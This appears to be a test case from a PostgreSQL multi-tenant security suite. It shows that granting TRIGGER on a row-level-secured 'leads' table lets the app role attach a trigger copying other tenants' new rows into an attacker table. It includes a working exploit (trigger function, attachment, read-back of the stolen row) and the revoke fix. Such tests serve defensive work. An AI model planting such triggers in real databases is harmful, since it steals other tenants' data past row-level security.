-- What: TRIGGER, within GRANT ALL: the application may hang a function of its own on a table in which other tenants write.
-- Class: grant_trigger
-- Object: public.leads
-- Exploit: A trigger copies each row to a table of the attacker's; it runs in tenant B's session, with B's rows before it.
-- @schema
create schema scratch;
grant usage, create on schema scratch to app_user;
create table leads (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table leads enable row level security;
alter table leads force row level security;
create policy tenant on leads using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete, trigger on leads to app_user;
-- @rows
insert into leads (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-row');
-- @fix
revoke trigger on leads from app_user;
-- @control
select from leads where tenant_id = :'A';
-- @exploit
create table scratch.loot (body text);
create function scratch.take() returns trigger language plpgsql as $$ begin insert into scratch.loot values (new.body); return new; end $$;
create trigger take before insert on leads for each row execute function scratch.take();
-- @tenant_b
insert into leads (tenant_id, body) values (:'B', 'B-secret');
-- @exploit
select body from scratch.loot where body = 'B-secret';
